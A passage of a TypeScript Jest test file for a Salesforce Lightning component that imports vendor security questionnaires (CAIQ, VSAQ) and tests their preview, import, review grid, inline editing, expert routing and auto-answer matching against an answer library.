import { createElement } from 'lwc';
import * as XLSX from '@e965/xlsx';
import QuestionnaireWorkspace from 'c/questionnaireWorkspace';
import getWorkspace from '@salesforce/apex/QuestionnaireController.getWorkspace';
import importItems from '@salesforce/apex/QuestionnaireController.importItems';
import saveAnswers from '@salesforce/apex/QuestionnaireController.saveAnswers';
import { refreshApex } from '@salesforce/apex';
import { notifyRecordUpdateAvailable } from 'lightning/uiRecordApi';
import { createMatcher, type Matcher, type MatchInput } from 'c/answerMatcher';
import type { ConfidenceBand, MatchResult } from 'c/questionnaireModel';
import { isFormulaLike } from 'c/questionnaireExport';
import { parseCsv } from 'c/questionnaireParser';
import type * as WireUtil from '@salesforce/wire-service-jest-util';
import type * as AnswerMatcher from 'c/answerMatcher';
import { loadScript } from '../../../../../../config/jest/mocks/lightning/platformResourceLoader';
import workspaceData from './data/getWorkspace.json';

jest.mock(
  '@salesforce/apex/QuestionnaireController.getWorkspace',
  () => {
    const { createApexTestWireAdapter } = jest.requireActual<typeof WireUtil>(
      '@salesforce/wire-service-jest-util'
    );
    return { default: createApexTestWireAdapter(jest.fn()) };
  },
  { virtual: true }
);
jest.mock('@salesforce/apex/QuestionnaireController.importItems', () => ({ default: jest.fn() }), {
  virtual: true
});
jest.mock('@salesforce/apex/QuestionnaireController.saveAnswers', () => ({ default: jest.fn() }), {
  virtual: true
});
jest.mock('@salesforce/apex', () => ({ refreshApex: jest.fn(() => Promise.resolve()) }), { virtual: true });
jest.mock('c/answerMatcher', () => {
  const actual = jest.requireActual<typeof AnswerMatcher>('c/answerMatcher');
  return { ...actual, createMatcher: jest.fn(actual.createMatcher) };
});
jest.mock('lightning/progressBar', () => jest.requireActual<object>('./data/progressBar/progressBar'));

interface TestWireAdapter {
  emit(value: unknown): void;
  error(body?: unknown, status?: number, statusText?: string): void;
}

type Workspace = typeof workspaceData;
type Item = Workspace['items'][number];

const workspaceAdapter = getWorkspace as unknown as TestWireAdapter;
const importMock = importItems as unknown as jest.Mock<
  Promise<unknown>,
  [{ questionnaireId: string; itemsJson: string }]
>;
const saveMock = saveAnswers as unknown as jest.Mock<Promise<unknown>, [{ updatesJson: string }]>;
const refreshMock = refreshApex as unknown as jest.Mock;
const notifyMock = notifyRecordUpdateAvailable as unknown as jest.Mock;
const createMatcherMock = createMatcher as unknown as jest.Mock<Matcher, Parameters<typeof createMatcher>>;
const realCreateMatcher = jest.requireActual<typeof AnswerMatcher>('c/answerMatcher').createMatcher;

const RECORD_ID = 'a0Q000000000001AAA';
/** Tests that render and check fifty-row pages several times need more than jest's default five seconds. */
const SLOW_TEST_MS = 30000;

// ---------------------------------------------------------------------------------------------------------
// Helpers

function mount(): HTMLElement {
  const element = createElement('c-questionnaire-workspace', { is: QuestionnaireWorkspace });
  (element as HTMLElement & { recordId: string }).recordId = RECORD_ID;
  document.body.appendChild(element);
  return element;
}

function all<T extends Element = HTMLElement>(element: HTMLElement, selector: string): T[] {
  return [...(element.shadowRoot as ShadowRoot).querySelectorAll<T>(selector)];
}

function one<T extends Element = HTMLElement>(element: HTMLElement, selector: string): T | null {
  return (element.shadowRoot as ShadowRoot).querySelector<T>(selector);
}

/** An element of the empty state shown when the filters match nothing (c-no-match, a child with its own shadow root). */
function inNoMatch(element: HTMLElement, selector: string): HTMLElement | null {
  const host = (element.shadowRoot as ShadowRoot).querySelector('c-no-match');
  return host?.shadowRoot?.querySelector<HTMLElement>(selector) ?? null;
}

/** An element of the table's pager (c-paginator, a child component with its own shadow root). */
function inPager<T extends Element = HTMLElement>(element: HTMLElement, selector: string): T | null {
  return one(element, 'c-paginator')?.shadowRoot?.querySelector<T>(selector) ?? null;
}

function text(node: Element | null | undefined): string {
  return (node?.textContent ?? '').replace(/\s+/g, ' ').trim();
}

/** Lets promises settle and the component re-render. */
async function flush(): Promise<void> {
  await Promise.resolve();
  await Promise.resolve();
  await Promise.resolve();
  await Promise.resolve();
}

/** Waits for the next macrotask: file reads and the auto-answer's yields finish in macrotasks. */
function nextTask(): Promise<void> {
  // eslint-disable-next-line @lwc/lwc/no-async-operation
  return new Promise((resolve) => setTimeout(resolve, 0));
}

async function waitFor(condition: () => boolean, what: string): Promise<void> {
  for (let attempt = 0; attempt < 200; attempt++) {
    if (condition()) return;
    // eslint-disable-next-line no-await-in-loop
    await nextTask();
  }
  throw new Error(`Timed out waiting for ${what}`);
}

interface Toast {
  readonly title: string;
  readonly message: string;
  readonly variant: string;
}

/** Every toast the component shows, in order. */
function toastsOf(element: HTMLElement): Toast[] {
  const toasts: Toast[] = [];
  element.addEventListener('lightning__showtoast', (event) =>
    toasts.push((event as CustomEvent<Toast>).detail)
  );
  return toasts;
}

async function emit(data: unknown = workspaceData): Promise<void> {
  workspaceAdapter.emit(data);
  await flush();
}

function emptyWorkspace(overrides: Partial<Workspace> = {}): Workspace {
  return {
    ...workspaceData,
    questionnaire: { ...workspaceData.questionnaire, format: '', sourceFileName: '' },
    items: [],
    ...overrides
  };
}

function rowOf(element: HTMLElement, key: string): HTMLElement {
  const row = all(element, 'tr.item-row').find(
    (candidate) => text(candidate.querySelector('.item-key')) === key
  );
  if (!row) throw new Error(`No row for ${key}`);
  return row;
}

function rowKeys(element: HTMLElement): string[] {
  return all(element, 'tr.item-row').map((row) => text(row.querySelector('.item-key')));
}

function click(node: Element | null | undefined): void {
  if (!node) throw new Error('Nothing to click');
  (node as HTMLElement).click();
}

function choose(element: HTMLElement, selector: string, value: string): void {
  const combobox = one(element, selector);
  if (!combobox) throw new Error(`No ${selector}`);
  combobox.dispatchEvent(new CustomEvent('change', { detail: { value } }));
}

/**
 * Gives a file to a file input and waits until the component has read it: by default until a preview or a parse
 * error appears in place of what was there.
 */
async function upload(
  element: HTMLElement,
  file: File,
  selector = '.file-input',
  done?: () => boolean
): Promise<void> {
  const input = one(element, selector);
  if (!input) throw new Error(`No ${selector}`);
  const before = [one(element, '.preview'), one(element, '.parse-error')];
  const changed = (): boolean =>
    ['.preview', '.parse-error'].some((outcome, i) => {
      const now = one(element, outcome);
      return now !== null && now !== before[i];
    });
  input.dispatchEvent(new CustomEvent('change', { detail: { files: [file] } }));
  await waitFor(done ?? changed, `${file.name} to be read`);
  await flush();
}

function csvFile(name: string, rows: string[][]): File {
  const body = rows.map((row) => row.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',')).join('\r\n');
  return new File([body], name, { type: 'text/csv' });
}

function workbookFile(name: string, sheets: Record<string, unknown[][]>): File {
  const book = XLSX.utils.book_new();
  for (const [sheetName, rows] of Object.entries(sheets)) {
    XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows), sheetName);
  }
  const bytes = XLSX.write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer;
  return new File([bytes], name);
}

const CAIQ_ROWS = [
  ['Consensus Assessments Initiative Questionnaire', '', ''],
  ['Question ID', 'Question', 'CSP Answer'],
  ['A&A-01.1', 'Are audit policies established and reviewed annually?', ''],
  ['A&A-02.1', 'Are independent audits conducted at least annually?', ''],
  ['CEK-03.1', 'Do you encrypt customer data at rest?', '']
];

function readBlob(blob: Blob, as: 'text' | 'bytes'): Promise<string | Uint8Array> {
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () =>
      resolve(
        typeof reader.result === 'string' ? reader.result : new Uint8Array(reader.result as ArrayBuffer)
      );
    reader.onerror = () => reject(reader.error ?? new Error('read failed'));
    if (as === 'text') reader.readAsText(blob);
    else reader.readAsArrayBuffer(blob);
  });
}

interface Download {
  readonly href: string;
  readonly fileName: string;
  readonly blob: Blob | undefined;
}

/** Captures downloads: the blob behind each object URL and the link the component clicks. */
function captureDownloads(): Download[] {
  const downloads: Download[] = [];
  const blobs = new Map<string, Blob>();
  let next = 0;
  Object.defineProperty(URL, 'createObjectURL', {
    configurable: true,
    writable: true,
    value: jest.fn((blob: Blob) => {
      const url = `blob:https://example.com/${next++}`;
      blobs.set(url, blob);
      return url;
    })
  });
  Object.defineProperty(URL, 'revokeObjectURL', { configurable: true, writable: true, value: jest.fn() });
  jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    downloads.push({ href: this.href, fileName: this.download, blob: blobs.get(this.href) });
  });
  return downloads;
}

/** A stand-in for the matching engine: bands by item key, so that review tests do not depend on its tuning. */
function fakeMatcher(
  outcomes: Record<string, { band: ConfidenceBand; entryId: string | null; score: number }>
): Matcher {
  const match = (item: MatchInput): MatchResult => {
    const outcome = outcomes[item.key] ?? { band: 'none', entryId: null, score: 0.01 };
    return { ...item, ...outcome, answer: null };
  };
  return {
    size: 4,
    excluded: [],
    match,
    matchAll: (items: readonly MatchInput[]) => items.map(match),
    explain: () => ({ candidates: [], features: undefined, probability: 0, band: 'none' })
  };
}

function manyItems(count: number): Item[] {
  return Array.from({ length: count }, (_, i) => ({
    id: `a0R${String(i).padStart(12, '0')}AAA`,
    key: `Q-${String(i + 1).padStart(3, '0')}`,
    section: 'General',
    question: `Question ${i + 1}?`,
    sortOrder: i + 1,
    reviewStatus: 'Unanswered'
  }));
}

// ---------------------------------------------------------------------------------------------------------

describe('c-questionnaire-workspace', () => {
  afterEach(() => {
    while (document.body.firstChild) {
      document.body.removeChild(document.body.firstChild);
    }
    delete window.XLSX;
    jest.restoreAllMocks();
    jest.clearAllMocks();
  });

  describe('loading, error and empty states', () => {
    it('shows a spinner until the workspace arrives', async () => {
      const element = mount();
      await flush();
      expect(one(element, 'lightning-spinner')).not.toBeNull();
      expect(one(element, '.upload')).toBeNull();
      await expect(element).toBeAccessible();
    });

    it('shows the error panel when the workspace cannot be loaded', async () => {
      const element = mount();
      workspaceAdapter.error({ message: "You cannot work on this questionnaire's items." });
      await flush();
      const panel = one<HTMLElement & { friendlyMessage: string; errors: unknown }>(element, '.load-error');
      expect(panel?.friendlyMessage).toBe("We couldn't load this questionnaire.");
      expect(panel?.errors).toBeTruthy();
      await expect(element).toBeAccessible();
    });

    it('offers the upload when nothing is imported yet', async () => {
      const element = mount();
      await emit(emptyWorkspace());
      expect(text(one(element, '#upload-heading'))).toBe("Import the buyer's questionnaire");
      const input = one<HTMLElement & { type: string; accept: string }>(element, '.file-input');
      expect(input?.type).toBe('file');
      expect(input?.accept).toBe('.csv,.tsv,.txt,.xlsx,.xlsm,.ods,.json');
      expect(one(element, 'table')).toBeNull();
      expect(one(element, '.preview')).toBeNull();
      await expect(element).toBeAccessible();
    });

    it('ignores a payload that is not a workspace', async () => {
      const element = mount();
      await emit({ questionnaire: null, items: [] });
      expect(one(element, 'lightning-spinner')).not.toBeNull();
    });
  });

  describe('upload and import', () => {
    it('previews a CSV file and imports all its items in one call', async () => {
      importMock.mockResolvedValue({ questionnaireId: RECORD_ID, itemCount: 3 });
      const element = mount();
      const toasts = toastsOf(element);
      await emit(emptyWorkspace());

      await upload(element, csvFile('northwind-caiq.csv', CAIQ_ROWS));

      expect(text(one(element, '.preview h3'))).toBe('northwind-caiq.csv');
      expect(text(one(element, '.preview-summary'))).toBe('3 questions · 2 rows excluded · 1 warning');
      expect(text(one(element, '.preview-warnings'))).toContain('2 rows excluded as not questions');
      expect(one(element, '.sheet-select')).toBeNull();
      const button = one<HTMLElement & { label: string; disabled: boolean }>(element, '.import-button');
      expect(button?.label).toBe('Import 3 items');
      expect(button?.disabled).toBe(false);
      await expect(element).toBeAccessible();

      click(button);
      await flush();

      expect(importMock).toHaveBeenCalledTimes(1);
      const call = importMock.mock.calls[0]?.[0];
      expect(call?.questionnaireId).toBe(RECORD_ID);
      const request = JSON.parse(call?.itemsJson ?? '{}') as {
        fileName: string;
        format: string;
        items: Array<{
          key: string;
          question: string;
          section: string;
          responseType: string;
          choices: string[];
        }>;
      };
      expect(request.fileName).toBe('northwind-caiq.csv');
      expect(request.format).toBe('CAIQ');
      expect(request.items.map((item) => item.key)).toEqual(['A&A-01.1', 'A&A-02.1', 'CEK-03.1']);
      expect(request.items[2]).toEqual({
        key: 'CEK-03.1',
        section: '',
        question: 'Do you encrypt customer data at rest?',
        responseType: 'Text',
        choices: []
      });
      expect(refreshMock).toHaveBeenCalledTimes(1);
      expect(notifyMock).toHaveBeenCalledWith([{ recordId: RECORD_ID }]);
      expect(toasts[0]).toMatchObject({
        title: 'Questionnaire imported',
        message: '3 questions imported.'
      });
      expect(one(element, '.preview')).toBeNull();
    });

    it('keeps the questionnaire format it already has', async () => {
      importMock.mockResolvedValue({ questionnaireId: RECORD_ID, itemCount: 3 });
      const element = mount();
      await emit(emptyWorkspace({ questionnaire: { ...workspaceData.questionnaire, format: 'HECVAT' } }));
      await upload(element, csvFile('anything.csv', CAIQ_ROWS));
      click(one(element, '.import-button'));
      await flush();
      const request = JSON.parse(importMock.mock.calls[0]?.[0].itemsJson ?? '{}') as Record<string, unknown>;
      expect(request.format).toBeUndefined();
    });

    it('names the row and column of a file it cannot read', async () => {
      const element = mount();
      await emit(emptyWorkspace());
      const broken = new File(['ID,Question\r\nQ-1,"Do you encrypt data?\r\nQ-2,Unclosed'], 'broken.csv');

      await upload(element, broken);

      const panel = one<HTMLElement & { friendlyMessage: string; errors: unknown }>(element, '.parse-error');
      expect(panel?.friendlyMessage).toMatch(/^We couldn't read broken\.csv: broken\.csv, row 2, column B: /);
      expect(panel?.errors).toBeUndefined();
      expect(one(element, '.preview')).toBeNull();
      await expect(element).toBeAccessible();
    });

    it('chooses the sheet with the questions, and lets the user choose another', async () => {
      window.XLSX = XLSX;
      const element = mount();
      await emit(emptyWorkspace());

      await upload(
        element,
        workbookFile('northwind.xlsx', {
          Instructions: [['Read me'], ['Answer every question.']],
          'CAIQv4.0.3': CAIQ_ROWS,
          Extra: [
            ['ID', 'Question'],
            ['X-1', 'Do you run a bug bounty?']
          ]
        })
      );
      await waitFor(() => one(element, '.preview') !== null, 'the preview');

      const select = one<HTMLElement & { value: string; options: Array<{ value: string }> }>(
        element,
        '.sheet-select'
      );
      expect(select?.options.map((option) => option.value)).toEqual([
        '*',
        'Instructions',
        'CAIQv4.0.3',
        'Extra'
      ]);
      expect(select?.value).toBe('CAIQv4.0.3');
      expect(text(one(element, '.preview-summary'))).toMatch(/^3 questions/);
      expect(loadScript).not.toHaveBeenCalled();

      choose(element, '.sheet-select', 'Extra');
      await flush();
      expect(text(one(element, '.preview-summary'))).toMatch(/^1 question ·/);

      choose(element, '.sheet-select', '*');
      await flush();
      expect(text(one(element, '.preview-summary'))).toMatch(/^4 questions/);
      expect(select?.value).toBe('*');

      choose(element, '.sheet-select', 'Instructions');
      await flush();
      expect(
        one<HTMLElement & { friendlyMessage: string }>(element, '.parse-error')?.friendlyMessage
      ).toContain("no header row found in the first 2 rows of sheet 'Instructions'");
      await expect(element).toBeAccessible();
    });

    it('loads SheetJS from its static resource the first time a workbook is read', async () => {
      loadScript.mockImplementationOnce(() => {
        window.XLSX = XLSX;
        return Promise.resolve();
      });
      const element = mount();
      await emit(emptyWorkspace());
      await upload(element, workbookFile('sig-lite.xlsx', { 'SIG Lite': CAIQ_ROWS }));
      await waitFor(() => one(element, '.preview') !== null, 'the preview');

      expect(loadScript).toHaveBeenCalledTimes(1);
      expect(loadScript.mock.calls[0]?.[1]).toContain('SheetJS');
      expect(one(element, '.sheet-select')).toBeNull();
    });

    it('says so when SheetJS cannot be loaded', async () => {
      loadScript.mockImplementationOnce(() => Promise.reject(new Error('Script failed to load')));
      const element = mount();
      await emit(emptyWorkspace());
      await upload(element, workbookFile('caiq.xlsx', { Sheet1: CAIQ_ROWS }));
      await waitFor(() => one(element, '.parse-error') !== null, 'the error');
      const panel = one<HTMLElement & { friendlyMessage: string; errors: unknown }>(element, '.parse-error');
      expect(panel?.friendlyMessage).toBe("We couldn't read caiq.xlsx.");
      expect(panel?.errors).toBeInstanceOf(Error);
    });

    it('asks for .xlsx instead of a legacy workbook', async () => {
      const element = mount();
      await emit(emptyWorkspace());
      await upload(element, new File(['binary'], 'old.xls'));
      expect(
        one<HTMLElement & { friendlyMessage: string }>(element, '.parse-error')?.friendlyMessage
      ).toContain('save it as .xlsx and upload it again');
    });

    it('imports a VSAQ questionnaire as VSAQ', async () => {
      importMock.mockResolvedValue({ questionnaireId: RECORD_ID, itemsCount: 2 });
      const element = mount();
      await emit(emptyWorkspace());
      const vsaq = {
        questionnaire: [
          {
            type: 'block',
            text: 'Web application',
            items: [
              { type: 'yesno', id: 'webapp_csrf', text: 'Do you protect against CSRF?' },
              { type: 'line', id: 'webapp_waf', text: 'Which web application firewall do you use?' }
            ]
          }
        ]
      };
      await upload(element, new File([JSON.stringify(vsaq)], 'webapp.json'));
      expect(text(one(element, '.preview-summary'))).toMatch(/^2 questions/);
      click(one(element, '.import-button'));
      await flush();
      const request = JSON.parse(importMock.mock.calls[0]?.[0].itemsJson ?? '{}') as {
        format: string;
        items: Array<{ key: string; responseType: string }>;
      };
      expect(request.format).toBe('VSAQ');
      expect(request.items.map((item) => item.key)).toEqual(['webapp_csrf', 'webapp_waf']);
    });

    it('refuses a file with more questions than a questionnaire may hold', async () => {
      const element = mount();
      await emit(emptyWorkspace({ maxItems: 2 }));
      await upload(element, csvFile('caiq.csv', CAIQ_ROWS));
      expect(text(one(element, '.too-many'))).toBe(
        'This file has 3 questions, more than the 2 one questionnaire may hold. Split it into several questionnaires.'
      );
      expect(one<HTMLElement & { disabled: boolean }>(element, '.import-button')?.disabled).toBe(true);
    });

    it('shows why an import failed and lets the user try again', async () => {
      importMock.mockRejectedValue({
        body: {
          message:
            'This questionnaire already has 3 questions: already imported; delete or use a new questionnaire.'
        }
      });
      const element = mount();
      await emit(emptyWorkspace());
      await upload(element, csvFile('caiq.csv', CAIQ_ROWS));
      click(one(element, '.import-button'));
      await flush();

      const panel = one<HTMLElement & { friendlyMessage: string; errors: unknown }>(element, '.import-error');
      expect(panel?.friendlyMessage).toBe("We couldn't import the questionnaire.");
      expect(panel?.errors).toEqual({
        body: {
          message:
            'This questionnaire already has 3 questions: already imported; delete or use a new questionnaire.'
        }
      });
      expect(one<HTMLElement & { disabled: boolean }>(element, '.import-button')?.disabled).toBe(false);
      expect(refreshMock).not.toHaveBeenCalled();
      expect(notifyMock).not.toHaveBeenCalled();
      await expect(element).toBeAccessible();

      click(one(element, '.cancel-upload'));
      await flush();
      expect(one(element, '.preview')).toBeNull();
      expect(one(element, '.import-error')).toBeNull();
    });
  });

  describe('review grid', () => {
    it('lists the items in the buyer order with answers, confidence in words and review status', async () => {
      const element = mount();
      await emit();

      expect(rowKeys(element)).toEqual([
        'A&A-01.1',
        'A&A-02.1',
        'CEK-03.1',
        'IAM-14.1',
        'STA-09.1',
        'HRS-01.1'
      ]);
      const first = rowOf(element, 'A&A-01.1');
      expect(text(first.querySelector('.section'))).toBe('Audit & Assurance');
      expect(text(first.querySelector('.short-answer'))).toBe('Yes');
      expect(text(first.querySelector('.answer-text'))).toBe(
        'Yes. Our audit policy is approved by the CISO and reviewed every year.'
      );
      expect(text(first.querySelector('.suggestion-note'))).toBe('From the library: Audit policy');
      expect(first.querySelector<HTMLElement & { label: string }>('lightning-badge')?.label).toBe('High');
      expect(text(first.querySelector('.score'))).toBe('97%');
      expect(text(first.querySelector('.review-status'))).toBe('Suggested');
      expect(text(rowOf(element, 'A&A-02.1').querySelector('.suggestion-note'))).toBe(
        'Possible answer from the library (Independent audits): not filled in'
      );
      expect(text(rowOf(element, 'STA-09.1').querySelector('.sme'))).toBe('SME: Dana Whitfield');
      expect(text(rowOf(element, 'HRS-01.1').querySelector('.band-text'))).toBe('Not matched');
      expect(rowOf(element, 'HRS-01.1').querySelector<HTMLButtonElement>('.accept-button')?.disabled).toBe(
        true
      );
      expect(rowOf(element, 'IAM-14.1').querySelector<HTMLButtonElement>('.accept-button')?.disabled).toBe(
        true
      );
      expect(text(rowOf(element, 'A&A-01.1').querySelector('.accept-button'))).toBe(
        'Accept the answer to A&A-01.1'
      );

      const counts = Object.fromEntries(
        all(element, 'li.count').map((count): [string, string] => [
          count.dataset.key ?? '',
          text(count.querySelector('.count-value'))
        ])
      );
      expect(counts).toEqual({
        high: '2',
        medium: '1',
        low: '1',
        none: '1',
        unmatched: '1',
        accepted: '0',
        edited: '1',
        routed: '1',
        approved: '1',
        unsaved: '0'
      });
      expect(text(one(element, '.library-notice'))).toBe(
        'Auto-answer uses 4 approved library entries; entries flagged for review, drafts and retired entries are never used.'
      );
      expect(one<HTMLElement & { disabled: boolean }>(element, '.save-button')?.disabled).toBe(true);
      await expect(element).toBeAccessible();
    });

    it('filters by confidence band and by review status', async () => {
      const element = mount();
      await emit();

      choose(element, '.band-filter', 'High');
      await flush();
      expect(rowKeys(element)).toEqual(['A&A-01.1', 'IAM-14.1']);
      expect(text(one(element, '.status-line'))).toBe('Showing 2 of 6 questions.');

      choose(element, '.band-filter', 'unmatched');
      await flush();
      expect(rowKeys(element)).toEqual(['HRS-01.1']);

      choose(element, '.band-filter', '');
      choose(element, '.status-filter', 'Routed to SME');
      await flush();
      expect(rowKeys(element)).toEqual(['STA-09.1']);

      choose(element, '.band-filter', 'High');
      await flush();
      expect(rowKeys(element)).toEqual([]);
      expect(text(inNoMatch(element, '.message'))).toBe('No questions match these filters.');
      await expect(element).toBeAccessible();

      click(inNoMatch(element, '.clear-filters'));
      await flush();
      expect(rowKeys(element)).toHaveLength(6);
    });

    it('accepts an answer, filling it from the suggested entry when it was not filled in', async () => {
      const element = mount();
      await emit();

      click(rowOf(element, 'A&A-01.1').querySelector('.accept-button'));
      await flush();
      expect(text(rowOf(element, 'A&A-01.1').querySelector('.review-status'))).toBe('Accepted');
      expect(text(rowOf(element, 'A&A-01.1').querySelector('.unsaved'))).toBe('Not saved yet');

      click(rowOf(element, 'A&A-02.1').querySelector('.accept-button'));
      await flush();
      const low = rowOf(element, 'A&A-02.1');
      expect(text(low.querySelector('.review-status'))).toBe('Accepted');
      expect(text(low.querySelector('.answer-text'))).toBe(
        'Yes. An independent CPA firm audits us against SOC 2 every year.'
      );
      expect(text(low.querySelector('.short-answer'))).toBe('Yes');
      expect(one<HTMLElement & { label: string }>(element, '.save-button')?.label).toBe('Save 2 changes');
      expect(
        text(
          all(element, 'li.count')
            .find((count) => count.dataset.key === 'accepted')
            ?.querySelector('.count-value')
        )
      ).toBe('2');
    });

    it('accepts every high-confidence suggestion at once', async () => {
      const element = mount();
      await emit();
      const button = one<HTMLElement & { label: string; disabled: boolean }>(element, '.accept-high');
      expect(button?.label).toBe('Accept 1 high-confidence answer');

      click(button);
      await flush();
      expect(text(rowOf(element, 'A&A-01.1').querySelector('.review-status'))).toBe('Accepted');
      expect(text(rowOf(element, 'IAM-14.1').querySelector('.review-status'))).toBe('Approved');
      expect(button?.disabled).toBe(true);
    });

    it('edits an answer inline, from the keyboard too', async () => {
      const element = mount();
      await emit();

      const focus = jest.spyOn(HTMLElement.prototype, 'focus');
      click(rowOf(element, 'A&A-02.1').querySelector('.edit-button'));
      await flush();
      const editor = rowOf(element, 'A&A-02.1').querySelector<HTMLElement & { value: string; label: string }>(
        '.answer-editor'
      );
      expect(editor?.label).toBe('Answer to A&A-02.1');
      expect(editor?.value).toBe('Yes. An independent CPA firm audits us against SOC 2 every year.');
      expect(focus.mock.contexts.at(-1)).toBe(editor);
      await expect(element).toBeAccessible();

      editor?.dispatchEvent(
        new CustomEvent('change', { detail: { value: 'Yes, by Moss Adams every spring.' } })
      );
      choose(element, '.short-answer-editor', 'Partial');
      click(one(element, '.save-edit'));
      await flush();

      const row = rowOf(element, 'A&A-02.1');
      expect(row.querySelector('.answer-editor')).toBeNull();
      expect(text(row.querySelector('.answer-text'))).toBe('Yes, by Moss Adams every spring.');
      expect(text(row.querySelector('.short-answer'))).toBe('Partial');
      expect(text(row.querySelector('.review-status'))).toBe('Edited');
      expect((element.shadowRoot as ShadowRoot).activeElement).toBe(row.querySelector('.edit-button'));

      click(rowOf(element, 'HRS-01.1').querySelector('.edit-button'));
      await flush();
      rowOf(element, 'HRS-01.1')
        .querySelector('.editor')
        ?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
      await flush();
      expect(rowOf(element, 'HRS-01.1').querySelector('.answer-editor')).toBeNull();
      expect(text(rowOf(element, 'HRS-01.1').querySelector('.review-status'))).toBe('Unanswered');
    });

    it('clears an answer edited to nothing back to unanswered, and cancels an edit', async () => {
      const element = mount();
      await emit();
      click(rowOf(element, 'CEK-03.1').querySelector('.edit-button'));
      await flush();
      rowOf(element, 'CEK-03.1')
        .querySelector('.answer-editor')
        ?.dispatchEvent(new CustomEvent('change', { detail: { value: '   ' } }));
      click(one(element, '.save-edit'));
      await flush();
      expect(text(rowOf(element, 'CEK-03.1').querySelector('.review-status'))).toBe('Unanswered');

      click(rowOf(element, 'A&A-01.1').querySelector('.edit-button'));
      await flush();
      click(one(element, '.cancel-edit'));
      await flush();
      expect(text(rowOf(element, 'A&A-01.1').querySelector('.review-status'))).toBe('Suggested');
      expect(rowOf(element, 'A&A-01.1').querySelector('.unsaved')).toBeNull();
    });

    it('routes a question to a subject-matter expert', async () => {
      const element = mount();
      await emit();

      click(rowOf(element, 'HRS-01.1').querySelector('.route-button'));
      await flush();
      const picker = rowOf(element, 'HRS-01.1').querySelector<
        HTMLElement & { label: string; objectApiName: string }
      >('.sme-picker');
      expect(picker?.label).toBe('Subject-matter expert for HRS-01.1');
      expect(picker?.objectApiName).toBe('User');
      await expect(element).toBeAccessible();

      picker?.dispatchEvent(new CustomEvent('change', { detail: { recordId: '005000000000007AAA' } }));
      click(one(element, '.confirm-route'));
      await flush();
      const row = rowOf(element, 'HRS-01.1');
      expect(text(row.querySelector('.review-status'))).toBe('Routed to SME');
      expect(text(row.querySelector('.sme'))).toBe('SME chosen');
      expect(row.querySelector('.sme-picker')).toBeNull();

      click(rowOf(element, 'A&A-02.1').querySelector('.route-button'));
      await flush();
      rowOf(element, 'A&A-02.1')
        .querySelector('.router')
        ?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true }));
      await flush();
      expect(rowOf(element, 'A&A-02.1').querySelector('.sme-picker')).toBeNull();
      expect(text(rowOf(element, 'A&A-02.1').querySelector('.review-status'))).toBe('Unanswered');

      click(rowOf(element, 'A&A-02.1').querySelector('.route-button'));
      await flush();
      click(one(element, '.confirm-route'));
      await flush();
      expect(text(rowOf(element, 'A&A-02.1').querySelector('.sme'))).toBe('No SME chosen yet');
    });

    it(
      'pages through a long questionnaire fifty questions at a time',
      async () => {
        const element = mount();
        await emit({ ...workspaceData, items: manyItems(120) });
        expect(rowKeys(element)).toHaveLength(50);
        expect(text(inPager(element, '.page-text'))).toBe('Page 1 of 3');
        click(inPager(element, '.next-page'));
        await flush();
        click(inPager(element, '.next-page'));
        await flush();
        expect(rowKeys(element)).toEqual(
          manyItems(120)
            .slice(100)
            .map((item) => item.key)
        );
        click(inPager(element, '.previous-page'));
        await flush();
        expect(text(inPager(element, '.page-text'))).toBe('Page 2 of 3');
        await expect(element).toBeAccessible();
      },
      SLOW_TEST_MS
    );

    it('says when the library cannot be read and auto-answer is unavailable', async () => {
      const element = mount();
      await emit({ ...workspaceData, library: [], libraryAvailable: false, itemsTruncated: true });
      expect(text(one(element, '.library-notice'))).toBe(
        'You cannot read the answer library, so auto-answer is not available.'
      );
      expect(one<HTMLElement & { disabled: boolean }>(element, '.auto-answer')?.disabled).toBe(true);
      expect(text(one(element, '.truncated-notice'))).toBe('Only the first 5,000 questions are shown.');
    });
  });

  describe('auto-answer', () => {
    it(
      'matches the open questions in chunks with a progress bar, never touching reviewed ones',
      async () => {
        const items = manyItems(250);
        const outcomes: Record<string, { band: ConfidenceBand; entryId: string | null; score: number }> = {};
        items.forEach((item, i) => {
          const bands: ConfidenceBand[] = ['high', 'medium', 'low', 'none'];
          const band = bands[i % 4] ?? 'none';
          outcomes[item.key] = {
            band,
            entryId: band === 'none' ? null : 'a0B000000000003AAA',
            score: [0.96, 0.7, 0.3, 0.02][i % 4] ?? 0
          };
        });
        const reviewed = { ...items[0], reviewStatus: 'Accepted', answer: 'Our own words.' } as Item;
        createMatcherMock.mockImplementationOnce(() => fakeMatcher(outcomes));
        const element = mount();
        const toasts = toastsOf(element);
        await emit({ ...workspaceData, items: [reviewed, ...items.slice(1)] });

        click(one(element, '.auto-answer'));
        await flush();
        expect(one(element, '.match-progress')).not.toBeNull();
        expect(text(one(element, '.progress-text'))).toBe('Matched 0 of 249 questions');
        expect(one<HTMLElement & { disabled: boolean }>(element, '.auto-answer')?.disabled).toBe(true);

        await nextTask();
        await flush();
        const bar = one<HTMLElement & { value: number }>(element, '.match-progress');
        expect(bar?.value).toBe(40);
        expect(text(one(element, '.progress-text'))).toBe('Matched 100 of 249 questions');
        expect(bar?.shadowRoot?.querySelector('[role="progressbar"]')?.getAttribute('aria-label')).toBe(
          'Auto-answer progress: 40%'
        );
        await expect(element).toBeAccessible();

        await waitFor(() => one(element, '.match-progress') === null, 'the end of auto-answer');

        expect(createMatcherMock).toHaveBeenCalledTimes(1);
        const library = createMatcherMock.mock.calls[0]?.[0] ?? [];
        expect(library.map((entry) => [entry.id, entry.status])).toEqual(
          workspaceData.library.map((entry) => [entry.id, 'Approved'])
        );
        expect(text(rowOf(element, 'Q-001').querySelector('.answer-text'))).toBe('Our own words.');
        expect(text(rowOf(element, 'Q-001').querySelector('.review-status'))).toBe('Accepted');
        const high = rowOf(element, 'Q-005');
        expect(high.querySelector<HTMLElement & { label: string }>('lightning-badge')?.label).toBe('High');
        expect(text(high.querySelector('.answer-text'))).toBe(
          'Yes. Customer data is encrypted at rest with AES-256 and keys managed in a cloud KMS.'
        );
        expect(text(high.querySelector('.review-status'))).toBe('Suggested');
        const low = rowOf(element, 'Q-003');
